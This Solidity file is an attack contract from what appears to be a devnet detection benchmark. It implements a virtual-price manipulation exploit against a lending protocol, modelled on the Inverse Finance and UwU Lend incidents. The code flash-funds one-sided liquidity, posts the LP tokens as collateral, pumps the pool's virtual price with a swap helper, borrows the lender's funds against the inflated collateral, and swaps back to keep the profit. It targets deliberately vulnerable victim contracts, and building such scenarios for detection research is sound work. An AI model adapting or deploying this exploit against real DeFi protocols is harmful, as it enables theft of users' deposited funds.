// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S SCENARIO LIBRARY ONLY (devnet detection benchmark). It
//  exploits the deliberately vulnerable CurveLikePool + VirtualPriceLender. Do not point it at
//  anything else.
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {FlashFunded} from "../common/FlashFunded.sol";
import {CurveLikePool} from "../victims/CurveLikePool.sol";
import {VirtualPriceLender} from "../victims/VirtualPriceLender.sol";
import {SwapPump} from "./SwapPump.sol";

/// @title CurveLikeAttacker
/// @notice Pattern 7 (Inverse Finance / UwU Lend), with capital in the lender's debt coin:
///   1. add `liquidityAmount` of that coin (one-sided) to the pool and post the LP as collateral;
///   2. a fresh SwapPump swaps `pumpAmount` of it for the other coin (virtual price jumps);
///   3. borrow the lender's liquidity against the inflated LP value;
///   4. the pump swaps everything back, proceeds to this contract.
/// The LP collateral is abandoned. Capital needed: liquidityAmount + pumpAmount.
contract CurveLikeAttacker is FlashFunded {
    using SafeERC20 for IERC20;

    /// @param lender Target lender (its pool is read from it).
    /// @param liquidityAmount Debt coin added to the pool and posted as LP collateral.
    /// @param pumpAmount Debt coin swapped through the pool.
    struct Params {
        VirtualPriceLender lender;
        uint256 liquidityAmount;
        uint256 pumpAmount;
    }

    /// @notice Runs the exploit with `funding` (token = the lender's debt coin).
    /// @return profit Debt coin gained (sent to the owner).
    function execute(Funding calldata funding, Params calldata p) external onlyOwner returns (uint256 profit) {
        profit = _fund(funding, abi.encode(p));
        _sweep(funding.token);
    }

    function _exploit(uint256, bytes memory data) internal override {
        Params memory p = abi.decode(data, (Params));
        VirtualPriceLender lender = p.lender;
        CurveLikePool pool = lender.pool();
        IERC20 debt = lender.debtToken();
        bool debtIsCoin0 = pool.coins(0) == address(debt);
        (int128 i, int128 j) = debtIsCoin0 ? (int128(0), int128(1)) : (int128(1), int128(0));

        uint256[2] memory amounts;
        amounts[debtIsCoin0 ? 0 : 1] = p.liquidityAmount;
        debt.forceApprove(address(pool), p.liquidityAmount);
        uint256 lp = pool.add_liquidity(amounts, 0);
        IERC20(address(pool)).forceApprove(address(lender), lp);
        lender.depositCollateral(lp);

        SwapPump pump = new SwapPump();
        debt.safeTransfer(address(pump), p.pumpAmount);
        pump.swapCurve(pool, i, j, address(pump));

        lender.borrow(Math.min(lender.liquidity(), lender.maxBorrow(address(this))));

        pump.swapCurve(pool, j, i, address(this));
    }
}
